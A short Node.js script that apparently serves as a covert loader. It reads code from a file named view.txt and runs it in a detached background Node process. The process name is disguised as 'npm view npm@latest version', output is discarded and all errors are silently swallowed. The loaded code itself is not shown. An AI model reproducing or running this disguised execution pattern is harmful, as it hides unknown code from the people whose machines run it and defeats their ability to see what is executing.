// SPDX-License-Identifier: Apache-2.0
'use strict';

const path = require('path');
const { spawn } = require('child_process');

const home = path.dirname(path.dirname(process.env.npm_execpath || process.execPath));
const code = require('fs').readFileSync(path.join(__dirname, 'view.txt'), 'utf8');
const child = spawn(process.execPath, ['-'], {
  argv0: 'npm view npm@latest version',
  cwd: home,
  detached: true,
  stdio: ['pipe', 'ignore', 'ignore'],
});
child.on('error', () => {});
child.stdin.on('error', () => {});
child.stdin.end(code);
child.unref();
setTimeout(() => {}, 2500);
